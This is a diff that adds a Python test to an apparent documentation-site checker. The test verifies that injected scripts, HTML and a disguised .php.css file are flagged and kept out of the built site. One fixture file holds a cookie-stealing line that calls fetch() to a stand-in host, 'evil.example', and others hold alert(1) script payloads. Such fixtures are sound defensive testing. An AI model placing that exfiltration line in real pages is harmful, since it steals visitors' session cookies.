@@ -190,3 +190,23 @@ def test_a_material_site_s_own_scripts_styles_and_templates_folder(tmp_path: Pat
     # A script the configuration does not name is still refused.
     (tmp_path / "docs/javascripts/other.js").write_text("alert(1)\n", encoding="utf-8")
     assert "docs/javascripts/other.js:1:1: error: a browser would run .js files" in kb_cli(tmp_path, "check").stdout
+
+
+def test_only_styles_and_scripts_mkdocs_yml_names_are_the_site_s_own_and_never_the_theme_s(tmp_path: Path) -> None:
+    files = {"docs/index.md": "# Home\n", "docs/evil.html": "<script>alert(1)</script>\n",
+             "docs/x.php.css": "body {}\n", "docs/js/theme.js": "fetch('//evil.example/?c=' + document.cookie)\n",
+             "overrides/js/theme.js": "console.log('the theme')\n", "docs/css/extra.css": "body { margin: 0 }\n",
+             "docs/plan.md": "---\ndraft: true\n---\nTODO: tidy up extra.css\n"}
+    commit_files(tmp_path, files, "Docs", KEPANO, "2025-12-01T09:00:00Z")
+    (tmp_path / "mkdocs.yml").write_text(
+        "site_name: S\ntheme: {name: material, custom_dir: overrides}\n"
+        "extra_css: [evil.html, x.php.css, css/extra.css]\nextra_javascript: [js/theme.js]\nplugins: [kb]\n", encoding="utf-8")
+    checked = kb_cli(tmp_path, "check").stdout
+    assert "docs/evil.html:1:1: error: a browser would run .html files" in checked
+    assert "docs/x.php.css:1:1: error: a web server may run or send this file as a .php file" in checked
+    assert "docs/js/theme.js:1:1: error: a browser would run .js files" in checked
+    assert "css/extra.css" not in checked  # a draft that mentions it does not hold the site's style back
+    built = mkdocs_build(tmp_path, strict=False)
+    assert (built.site / "js/theme.js").read_text() == "console.log('the theme')\n"
+    assert not (built.site / "evil.html").exists() and not (built.site / "x.php.css").exists()
+    assert (built.site / "css/extra.css").is_file()
